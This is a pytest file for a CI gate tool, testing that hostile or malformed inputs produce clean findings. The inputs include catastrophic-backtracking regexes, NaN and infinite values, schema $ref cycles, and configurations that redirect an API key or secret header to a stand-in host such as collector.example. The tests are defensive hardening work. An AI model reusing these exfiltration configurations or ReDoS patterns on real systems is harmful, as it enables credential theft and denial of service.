"""Odd and hostile files under review end the gate with a verdict and a finding at their line: no crash, no hang."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import EXAMPLE, GitRepo, gate


def _check(report: dict[str, Any], name: str) -> dict[str, Any]:
    return next(c for c in report["checks"] if c["name"] == name)


def example(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(EXAMPLE, root)
    return root


@pytest.mark.parametrize(("href", "reason"), [
    ("runbook%00.md", "a file name cannot hold a NUL byte"),
    ("x" * 300 + ".md", "File name too long"),
])
def test_docs_unusable_link_is_a_broken_link_finding_at_its_line(tmp_path: Path, href: str, reason: str) -> None:
    root = example(tmp_path)
    doc = root / "docs" / "failure-modes.md"
    doc.write_text(doc.read_text() + f"\nSee [the runbook]({href}).\n")
    line = len(doc.read_text().splitlines())
    res = gate("docs", "--format", "json", cwd=root)
    assert res.exit_code == 1, res.stdout + res.stderr
    check = _check(res.json(), "docs")
    assert check["status"] == "fail"
    [finding] = [f for f in check["findings"] if f["message"].startswith("link ")]
    assert (finding["file"], finding["line"]) == ("docs/failure-modes.md", line)
    assert finding["message"].endswith(f"does not resolve: {reason}")


TRAFFIC_LINE = "    requests_per_day: {p50: 40000, p95: 60000}"


@pytest.mark.parametrize(("value", "message"), [
    ("1.0e+308", "traffic.yaml:8: route 'answer' in profile 'expected': its projected monthly cost is not a finite number"),
    ("{p50: 1, p95: 1.0e+300}", "traffic.yaml:8: route 'answer' in profile 'expected': its projected monthly cost is "
     "not a finite number"),
])
def test_cost_projection_overflow_is_exit_2_at_the_route(tmp_path: Path, value: str, message: str) -> None:
    root = example(tmp_path)
    traffic = root / "traffic.yaml"
    traffic.write_text(traffic.read_text().replace(TRAFFIC_LINE, f"    requests_per_day: {value}"))
    res = gate("cost", cwd=root)
    assert res.exit_code == 2, res.stdout + res.stderr
    assert res.stderr.splitlines()[0].startswith(f"error: {message}")
    assert "Traceback" not in res.stderr and "nan" not in res.stdout.lower()


@pytest.mark.parametrize("field", ["requests_per_day: {p50: 40000, p95: .nan}", "retry_rate: .nan", "growth: .inf"])
def test_cost_non_finite_traffic_number_is_exit_2_at_its_line(tmp_path: Path, field: str) -> None:
    root = example(tmp_path)
    traffic = root / "traffic.yaml"
    text = traffic.read_text()
    key = field.split(":")[0]
    lines = [t if not t.startswith(f"    {key}:") else f"    {field}" for t in text.splitlines()]
    traffic.write_text("\n".join(lines) + "\n")
    line = next(i for i, t in enumerate(lines, 1) if t == f"    {field}")
    res = gate("cost", cwd=root)
    assert res.exit_code == 2, res.stdout + res.stderr
    [first, *_] = res.stderr.splitlines()
    # The YAML reader may refuse the literal itself; either way it is this line, once, without a traceback.
    assert first.startswith(f"error: traffic.yaml:{line}:"), res.stderr
    assert "nan" in first.lower() or "inf" in first.lower() or "finite" in first
    assert res.stderr.count(f"traffic.yaml:{line}:") == 1 and "Traceback" not in res.stderr


def test_cost_shared_route_defect_printed_once_not_per_profile(tmp_path: Path) -> None:
    root = example(tmp_path)
    traffic = root / "traffic.yaml"
    traffic.write_text(traffic.read_text().replace(TRAFFIC_LINE, "    requests_per_day: {p50: 5, p95: 2}"))
    res = gate("cost", cwd=root)
    assert res.exit_code == 2
    assert res.stderr.splitlines() == [
        "error: traffic.yaml:10:23: $.routes.answer.requests_per_day: p95 (2) is below p50 (5)"]


def test_cost_base_traffic_not_utf8_is_not_compared_with_a_notice(repo: GitRepo) -> None:
    shutil.copytree(EXAMPLE, repo.path, dirs_exist_ok=True)
    traffic = repo.path / "traffic.yaml"
    good = traffic.read_bytes()
    traffic.write_bytes(good.replace(b"# Traffic profiles", b"# Traffic \xff profiles"))
    repo.commit("base with a stray byte")
    repo.git("checkout", "-q", "-b", "feature")
    traffic.write_bytes(good)
    repo.commit("fixed")
    res = gate("check", "--only", "cost", "--format", "json", "--base-ref", "main", cwd=repo.path)
    assert res.exit_code == 0, res.stdout + res.stderr
    cost = _check(res.json(), "cost")
    assert cost["details"]["base"]["compared"] is False
    assert "not valid UTF-8" in cost["details"]["base"]["reason"]
    assert [f["message"] for f in cost["findings"] if f["severity"] == "notice"
            and "base's cost could not be computed" in f["message"]] == [
        "the base's cost could not be computed (main): traffic.yaml: not valid UTF-8"]
    # The increase budget it could not be compared with is not a clean pass.
    assert cost["status"] == "warn" and [f["line"] for f in cost["findings"] if f["severity"] == "warning"] == [24]


def _answering(tmp_path: Path, answer: str, dataset: str) -> Path:
    """A repository whose app answers every case with `answer` (a real subprocess per case)."""
    (tmp_path / "app.py").write_text(f"import json, sys\njson.load(sys.stdin)\nprint(json.dumps({{'output': {answer!r}}}))\n",
                                     encoding="utf-8")
    (tmp_path / "d.jsonl").write_text(dataset, encoding="utf-8")
    (tmp_path / "gate.yaml").write_text(
        "version: 1\nregression:\n  suites:\n    - dataset: d.jsonl\n"
        f"      target: {{command: [{sys.executable!r}, app.py]}}\n", encoding="utf-8")
    return tmp_path


def test_regression_backtracking_regex_assert_fails_the_case_instead_of_hanging(tmp_path: Path) -> None:
    root = _answering(tmp_path, "a" * 64 + "b", '{"id": "a", "q": "hi", "assert": [{"regex": "^(a|aa)+$"}]}\n'
                      '{"id": "b", "q": "hi", "assert": [{"regex": "^a+b$"}]}\n')
    res = gate("check", "--only", "regression", "--format", "json", cwd=root)
    assert res.exit_code == 0, res.stdout + res.stderr  # no pass-rate gate: failed cases warn
    check = _check(res.json(), "regression")
    assert (check["status"], check["metrics"]["passed"], check["metrics"]["cases"]) == ("warn", 1, 2)
    [finding] = [f for f in check["findings"] if f.get("case_id")]
    assert (finding["file"], finding["line"], finding["case_id"]) == ("d.jsonl", 1, "d/a")
    assert "did not finish within 0.25s on its 65-character answer" in finding["message"]
    assert check["metrics"]["regex_timeouts"] == 1 and check["metrics"]["regex_capped"] == 0


def test_regression_regex_timeouts_capped_per_pattern_remaining_cases_fail_at_once(tmp_path: Path) -> None:
    # Seven answers that all hit a catastrophic pattern: three deadlines are spent, not seven.
    rows = "".join(json.dumps({"id": f"c{i}", "q": "hi", "assert": [{"not_regex": "^(a|aa)+$"}]}) + "\n" for i in range(7))
    root = _answering(tmp_path, "a" * 64 + "b", rows + '{"id": "ok", "q": "hi", "assert": [{"regex": "^a+b$"}]}\n')
    res = gate("check", "--only", "regression", "--format", "json", "--full-report", cwd=root)
    assert res.exit_code == 0, res.stdout + res.stderr  # no pass-rate gate: failed cases warn
    check = _check(res.json(), "regression")
    assert (check["status"], check["metrics"]["passed"], check["metrics"]["cases"]) == ("warn", 1, 8)
    assert (check["metrics"]["regex_timeouts"], check["metrics"]["regex_capped"]) == (3, 4)
    assert check["details"]["run"]["regex_timeouts"] == [{"pattern": "^(a|aa)+$", "timeouts": 3, "failed_at_once": 4}]
    warnings = [f["message"] for f in check["findings"] if f["severity"] == "warning"]
    assert warnings == ["regex '^(a|aa)+$' did not finish within its deadline on 3 answers; 4 more cases failed "
                        "without running it"]
    failed = [f["message"] for f in check["findings"] if f.get("case_id")]
    assert len(failed) == 7 and all("did not finish within 0.25s" in m for m in failed)
    assert sum("on 3 answers of this run (catastrophic backtracking?): not run again" in m for m in failed) == 4


def test_regression_dataset_nan_threshold_is_a_finding_at_its_line(tmp_path: Path) -> None:
    root = _answering(tmp_path, "hi", '{"id": "a", "q": "hi"}\n{"id": "b", "q": "hi", "assert": '
                      '[{"contains": "hi", "threshold": NaN}]}\n')
    res = gate("check", "--only", "regression", "--format", "json", cwd=root)
    assert res.exit_code == 1, res.stdout + res.stderr
    findings = _check(res.json(), "regression")["findings"]
    assert [(f["file"], f["line"]) for f in findings] == [("d.jsonl", 2)]
    assert "nan" in findings[0]["message"].lower() or "finite" in findings[0]["message"]


@pytest.mark.parametrize(("schema", "phrase"), [
    ({"enum": ["x"], "$ref": "#/enum/0"}, "AttributeError"),
])
def test_regression_unusable_json_schema_assert_is_a_finding_at_the_case(
        tmp_path: Path, schema: dict[str, Any], phrase: str) -> None:
    root = _answering(tmp_path, '{"a": 1}', json.dumps({"id": "a", "q": "hi", "assert": [{"json_schema": schema}]}) + "\n")
    res = gate("check", "--only", "regression", "--format", "json", cwd=root)
    assert res.exit_code == 0, res.stdout + res.stderr
    check = _check(res.json(), "regression")
    assert check["status"] == "warn"
    [finding] = check["findings"]
    assert (finding["file"], finding["line"]) == ("d.jsonl", 1) and phrase in finding["message"]


def test_regression_ref_cycle_in_a_case_schema_is_a_dataset_finding_before_any_call(tmp_path: Path) -> None:
    root = _answering(tmp_path, '{"a": 1}', json.dumps({"id": "a", "q": "hi", "assert": [{"json_schema": {"$ref": "#"}}]})
                      + "\n")
    res = gate("check", "--only", "regression", "--format", "json", cwd=root)
    assert res.exit_code == 1, res.stdout + res.stderr
    check = _check(res.json(), "regression")
    assert check["summary"] == "1 defect in the suites' files: nothing was run"
    [finding] = check["findings"]
    assert (finding["file"], finding["line"]) == ("d.jsonl", 1)
    assert finding["message"].startswith("case a: assert[0]: json_schema $ref '#' loops back to a schema it is part of")


def test_cost_nan_price_in_models_yaml_fails_at_its_line_never_prices_nan(tmp_path: Path) -> None:
    root = example(tmp_path)
    models = root / "models.yaml"
    models.write_text(models.read_text().replace("    timeout: 10\n", "    timeout: 10\n"
                                                 "    pricing: {input_per_mtok: .nan, output_per_mtok: 1}\n"))
    line = next(i for i, t in enumerate(models.read_text().splitlines(), 1) if "pricing:" in t)
    res = gate("cost", "--format", "json", cwd=root)
    assert res.exit_code == 1, res.stdout + res.stderr
    cost = _check(res.json(), "cost")
    assert cost["status"] == "fail" and "$nan" not in res.stdout and "monthly_usd" not in cost["metrics"]
    assert [(f["file"], f["line"]) for f in cost["findings"]] == [("models.yaml", line)]


def test_regression_json_schema_pattern_backtracking_fails_the_case_instead_of_hanging(tmp_path: Path) -> None:
    # The dataset's JSON Schema and the answer are both the checkout's: an unbounded search of `^(a|aa)+$` on 64
    # a's and a `b` never ends (Python's `re` took a minute on a shorter one). The schema's patterns, property
    # patterns too, run under the regex metrics' deadline, and the case fails saying why.
    answer = json.dumps({"q": "a" * 64 + "b"})
    root = _answering(tmp_path, answer, json.dumps({"id": "a", "q": "hi", "assert": [{"json_schema": {
        "type": "object", "properties": {"q": {"type": "string", "pattern": "^(a|aa)+$"}}}}]}) + "\n" + json.dumps(
        {"id": "b", "q": "hi", "assert": [{"json_schema": {"type": "object", "patternProperties": {
            "^(a|aa)+$": {"type": "string"}}}}]}) + "\n")
    res = gate("check", "--only", "regression", "--format", "json", cwd=root)
    assert res.exit_code == 0, res.stdout + res.stderr
    check = _check(res.json(), "regression")
    # Case b: the property name `q` is searched quickly (no match: the schema holds). Case a gives up.
    assert (check["status"], check["metrics"]["passed"]) == ("warn", 1)
    [failed] = [f for f in check["findings"] if f.get("case_id")]
    assert failed["case_id"] == "d/a" and "the schema's pattern '^(a|aa)+$' did not finish within" in failed["message"]


@pytest.mark.parametrize("actions", [True, False])
def test_regression_key_never_sent_to_a_host_the_change_chose(repo: GitRepo, actions: bool) -> None:
    from tests.conftest import edit, example_repo
    from tests.servers.openai_fake import serve

    bot = example_repo(repo)
    with serve() as elsewhere:
        # The change points `backup` (its key: OPENAI_API_KEY) at a host of its author's choosing, and calls it live.
        edit(bot / "models.yaml", "    model: gpt-4.1-mini\n", f"    model: gpt-4.1-mini\n    base_url: {elsewhere.url}/v1\n")
        edit(bot / "gate.yaml", "  target: {replay: cassettes/support-bot.jsonl}\n", "  target: {model: backup}\n")
        repo.commit("backup answers from elsewhere")
        env = {"OPENAI_API_KEY": "sk-test-not-a-real-key-0000", **({"GITHUB_ACTIONS": "true"} if actions else {})}
        res = gate("check", "-c", bot / "gate.yaml", "--only", "regression", "--format", "json", "--base-ref", "main",
                   env=env)
        sent = len(elsewhere.requests)
    check = _check(res.json(), "regression")
    if not actions:  # a developer's own machine and keys: nothing refused
        assert sent > 0
        return
    assert sent == 0, "the key reached a host the base branch never sends it to"
    assert res.exit_code == 1 and check["status"] == "fail"
    line = next(i for i, text in enumerate((bot / "models.yaml").read_text(encoding="utf-8").splitlines(), 1)
                if "base_url: " in text)
    [refused] = check["findings"]
    assert (refused["file"], refused["line"], refused["category"]) == ("bot/models.yaml", line, "secret")
    assert refused["message"].startswith("model 'backup' would send OPENAI_API_KEY to 127.0.0.1:"), refused["message"]


def test_secret_header_never_sent_to_a_host_the_change_chose(repo: GitRepo) -> None:
    target = ('{http: {url: "https://%s/answer", headers_env: {Authorization: SEARCH_TOKEN}, body: {q: "{{q}}"}, '
              'answer: "$.a"}}')
    config = "version: 1\nregression:\n  suites:\n    - dataset: d.jsonl\n      target: %s\n"
    repo.write("d.jsonl", '{"id": "a", "q": "hi"}\n')
    repo.write("gate.yaml", config % (target % "search.internal.example"))
    repo.commit("an http target with a secret header")
    repo.git("checkout", "-q", "-b", "change")
    repo.write("gate.yaml", config % (target % "collector.example"))
    repo.commit("the same header, to another host")
    env = {"SEARCH_TOKEN": "secret-token-value-0000", "GITHUB_ACTIONS": "true"}
    res = gate("check", "--only", "regression", "--base-ref", "main", cwd=repo.path, env=env)
    assert res.exit_code == 2, res.stdout + res.stderr
    first = res.stderr.splitlines()[0]
    assert first == ("error: gate.yaml:5: regression.suites.0.target.http.headers_env would send SEARCH_TOKEN to "
                     "collector.example, where the base branch's gate.yaml never sends it: nothing was run (merge a "
                     "new host for a secret header on its own first, where a reviewer sees it)"), first
    assert "secret-token-value" not in res.stdout + res.stderr
